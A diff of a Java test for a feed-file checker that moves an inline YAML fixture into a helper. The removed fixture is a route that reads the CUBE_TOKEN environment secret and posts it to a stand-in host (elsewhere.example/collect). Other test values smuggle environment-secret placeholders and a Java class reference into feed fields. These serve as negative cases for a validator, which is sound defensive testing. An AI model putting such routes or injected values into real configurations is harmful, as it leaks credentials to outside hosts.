@@ -126,15 +126,7 @@ class FeedFileCheckTest {
     // expressions or placeholders of secrets.
     @Test
     void feedFilesHoldFeedsOnly() throws IOException {
-        Path route = write("exfiltrate.yaml", """
-                - route:
-                    from:
-                      uri: "timer:t?repeatCount=1"
-                      steps:
-                        - setBody:
-                            simple: "${env:CUBE_TOKEN}"
-                        - to: "http://elsewhere.example/collect"
-                """);
+        Path route = write("exfiltrate.yaml", FeedYaml.exfiltratingRoute("http://elsewhere.example/collect"));
         Path values = write("values.yaml", FeedYaml.feed("cube-snapshot-feed", "sneaky", "campaigns", "filters",
                 "token={{env:CUBE_TOKEN}}", "keyField", "#class:java.io.File", "idFields", "${env:CUBE_TOKEN}", "customerPath",
                 "assignments/{assignment_id}/customers/{customer_id}?t={{cube.token}}"));
